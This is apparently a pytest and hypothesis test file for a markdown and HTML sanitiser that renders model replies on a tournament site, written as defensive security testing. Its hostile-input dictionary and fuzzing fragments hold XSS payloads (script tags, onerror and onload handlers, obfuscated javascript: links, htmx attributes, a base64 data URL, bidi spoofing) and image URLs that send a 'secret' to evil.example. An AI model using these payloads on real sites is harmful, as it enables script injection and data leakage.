"""Model replies as sanitised markdown (tournaments/rendering.py). Pure: no database."""

import re
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tournaments.rendering import ALIGNMENTS, ALLOWED_TAGS, LINK_REL, clean_html, render_markdown

# What may appear on each tag in the output, "rel" being the one nh3 adds to links itself.
OUTPUT_ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def parse(html: str) -> Element:
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def text_of(html: str) -> str:
    return "".join(parse(html).itertext())


def url_scheme(href: str) -> str | None:
    """The scheme a browser would see: it drops tabs and newlines anywhere in a URL and C0 controls
    and spaces around it. None for a relative URL."""
    url = re.sub(r"[\t\n\r]", "", href).strip("\x00- ")
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def assert_safe_tree(root: Element) -> None:
    """Every element under root is allowed, with only its allowed attributes and safe links."""
    for element in root.iter():
        if element is root:
            continue
        assert isinstance(element.tag, str), "comment or processing instruction in the output"
        assert element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in OUTPUT_ATTRIBUTES.get(element.tag, set()), (element.tag, name)
            if name == "href":
                assert url_scheme(value) in {"https", "mailto"}, value
            if name == "rel":
                assert value == LINK_REL
            if name == "align":
                assert value in ALIGNMENTS


def assert_safe_html(html: str) -> None:
    assert_safe_tree(parse(html))
    lowered = html.lower()
    for tag in ("<script", "<iframe", "<img", "<svg", "<style", "<div", "<span"):
        assert tag not in lowered
    assert not set(BIDI) & set(html)


# --- Markdown features ---------------------------------------------------------------------------------


def test_it_renders_a_fenced_code_block_with_a_language_as_escaped_pre_code():
    html = render_markdown('```python\nif a < b and c > d:\n    print("&")\n```')
    assert html == (
        '<pre><code>if a &lt; b and c &gt; d:\n    print("&amp;")\n</code></pre>\n'
    )  # the language-python class is dropped: no class attribute is allowed


def test_it_renders_inline_emphasis_strikethrough_and_code():
    html = render_markdown("Some **bold**, *italic*, ~~gone~~ and `x = 1`.")
    assert html == (
        "<p>Some <strong>bold</strong>, <em>italic</em>, <del>gone</del> and <code>x = 1</code>.</p>\n"
    )


def test_it_renders_lists_keeping_an_ordered_lists_start():
    html = render_markdown("- apples\n- pears\n\n3. three\n4. four")
    assert "<ul>\n<li>apples</li>\n<li>pears</li>\n</ul>" in html
    assert '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>' in html


def test_it_renders_a_table_with_alignment_as_align_attributes():
    html = render_markdown("| Name | Qty | Note |\n|:----:|----:|------|\n| tea | 2 | hot |")
    assert '<th align="center">Name</th>' in html and '<td align="right">2</td>' in html
    assert "<td>hot</td>" in html and "style" not in html


def test_it_renders_headings_quotes_rules_and_single_newlines_as_breaks():
    html = render_markdown("## Plan\n\n> quoted\n\n---\n\nRoses are red\nViolets are blue")
    assert html == (
        "<h2>Plan</h2>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>\n"
        "<p>Roses are red<br>\nViolets are blue</p>\n"
    )


def test_it_renders_https_and_mailto_links_with_a_safe_rel():
    html = render_markdown("[docs](https://docs.example/a?b=1&c=2) or <mailto:help@example.org>")
    assert '<a href="https://docs.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<a href="mailto:help@example.org" rel="noopener noreferrer nofollow">' in html


def test_it_keeps_the_text_of_ordinary_markdown_readable():
    source = "Hello **world**, café ☕, עברית and العربية, 👩\u200d💻 and 1 < 2 & 3 > 2."
    assert text_of(render_markdown(source)) == source.replace("**", "") + "\n"


# --- Hostile input -------------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "javascript-link": "[x](javascript:alert(1))",
    "javascript-link-obfuscated": "[x](JaVaScRiPt&#58;alert(1)) [y](java%0ascript:alert(1))",
    "svg-onload": "<svg onload=alert(1)>",
    "iframe": "<iframe src=https://evil.example>",
    "style-attribute": '<p style="color:red">red</p>',
    "style-element": "<style>body{display:none}</style>",
    "htmx-trigger": '<div hx-get="/x" hx-trigger="load">x</div>',
    "htmx-on": '<a hx-on:click="alert(1)">click</a>',
    "data-hx": '<span data-hx-get="/x">x</span>',
    "markdown-image": "![](https://evil.example/?q=secret)",
    "markdown-image-reference": "![logo][l]\n\n[l]: https://evil.example/?q=secret",
    "html-block": "# Title\n\n<div onclick=alert(1)>\n*inside*\n</div>\n\n<details open ontoggle=alert(1)>",
    "html-block-script": "text\n\n<script>\nalert(1)\n</script>\n\nmore",
    "http-html-link": '<a href="http://plain.example">plain</a>',
    "http-markdown-link": "[plain](http://plain.example) <http://plain.example>",
    "relative-link": "[next](/battle/next/) [top](#top) [proto](//evil.example/)",
    "data-url": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "comment": "<!-- hidden --> shown",
    "bidi": "user\u202e\u2066txt.exe\u2069 &#x202e;",
    "form": '<form action="/vote/"><input name=a><button>go</button></form>',
}


@pytest.mark.parametrize("render", [render_markdown, clean_html], ids=["markdown", "clean_html"])
@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_it_neutralises_hostile_input(render, source):
    html = render(source)
    assert_safe_html(html)
    if render is render_markdown:
        assert "secret" not in html  # an image's URL is gone, not just its tag


def test_it_shows_raw_html_in_markdown_as_text_rather_than_markup():
    html = render_markdown('Try <b onclick="x()">this</b>')
    assert html == '<p>Try &lt;b onclick="x()"&gt;this&lt;/b&gt;</p>\n'


def test_it_turns_markdown_images_into_their_alt_text_without_the_url():
    assert render_markdown("![](https://evil.example/?q=secret)") == "<p></p>\n"
    html = render_markdown('See ![a *tiny* <cat>](https://evil.example/cat.png "t")!')
    assert html == "<p>See a tiny &lt;cat&gt;!</p>\n"


def test_it_drops_http_and_relative_hrefs_but_keeps_the_link_text():
    html = render_markdown("[plain](http://plain.example) and [next](/battle/next/)")
    assert html == (
        '<p><a rel="noopener noreferrer nofollow">plain</a> and '
        '<a rel="noopener noreferrer nofollow">next</a></p>\n'
    )
    assert clean_html('<a href="http://plain.example">plain</a>') == (
        '<a rel="noopener noreferrer nofollow">plain</a>'
    )


def test_it_strips_forbidden_attributes_and_tags_from_raw_html_but_keeps_their_text():
    assert clean_html('<p style="color:red" class="c" id="i" data-x="1" hx-get="/x">red</p>') == "<p>red</p>"
    assert clean_html('<div hx-get="/x" hx-trigger="load"><span data-hx-get="/x">in</span></div>') == "in"
    assert clean_html("<script>alert(1)</script><style>p{}</style>after") == "after"


def test_it_removes_bidi_controls_however_they_are_written():
    assert text_of(render_markdown("user\u202e\u2066gpj.exe\u2069 &#x202E; ok")) == "usergpj.exe  ok\n"
    assert clean_html("a\u202ab\u202dc&#x2067;d&#8238;e") == "abcde"


def test_it_keeps_other_invisible_characters_that_text_needs():
    # Zero-width joiners build emoji and scripts; left-to-right/right-to-left marks cannot reorder text.
    source = "👩\u200d💻 \u200e\u200f \u00ad"
    assert clean_html(source) == source


# --- Properties ----------------------------------------------------------------------------------------

FRAGMENTS = [
    # markdown syntax
    "**",
    "*",
    "_",
    "~~",
    "`",
    "```",
    "```js\n",
    "\n",
    "\n\n",
    "# ",
    "> ",
    "- ",
    "1. ",
    "3) ",
    "---\n",
    "|",
    "| a | b |\n",
    "|:-|-:|\n",
    "[",
    "]",
    "(",
    ")",
    "](",
    "![",
    "<",
    ">",
    "\\",
    "    ",
    "  \n",
    "[r]: ",
    '"title"',
    # URLs, plain and disguised
    "https://ok.example/",
    "http://plain.example",
    "javascript:alert(1)",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "data:text/html,x",
    "vbscript:",
    "mailto:a@b.c",
    "//evil.example",
    "/rel",
    "#top",
    " ",
    "\x00",
    "%0a",
    # HTML
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<math>",
    "<a ",
    "<a href=",
    "</a>",
    "<p style='color:red'>",
    "<div hx-get=/x hx-trigger=load>",
    "</div>",
    "<span data-hx-get=/x>",
    "hx-on:click=",
    "onclick=",
    "<iframe src=x>",
    "<style>",
    "<template>",
    "<table>",
    "<tr>",
    "<td align=center>",
    "<th align=evil>",
    "<ol start=3>",
    "<noscript>",
    "<textarea>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    "'",
    '"',
    "=",
    "&",
    "&amp;",
    "&lt;",
    "&#x202e;",
    "&#0;",
    # bidi controls and friends
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200d",
    "\u200f",
]
markup = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40).map("".join)
anything = st.one_of(st.text(), markup)


def assert_contained(html: str) -> None:
    """Inside the reply's container the output cannot close it: it parses as that one element."""
    root = parse(f"<div hx-disable>{html}</div>")
    assert not (root.text or "").strip() and len(root) == 1
    assert root[0].tag == "div" and "hx-disable" in root[0].attrib and not (root[0].tail or "").strip()


@settings(max_examples=300, deadline=None)
@given(anything)
def test_it_renders_any_text_to_allowed_markup_only(text):
    html = render_markdown(text)
    assert_safe_html(html)
    assert_contained(html)


@settings(max_examples=300, deadline=None)
@given(anything)
def test_it_cleans_any_html_to_allowed_markup_only(text):
    html = clean_html(text)
    assert_safe_html(html)
    assert_contained(html)


@settings(max_examples=300, deadline=None)
@given(anything)
def test_it_cleans_idempotently(text):
    once = clean_html(text)
    assert clean_html(once) == once
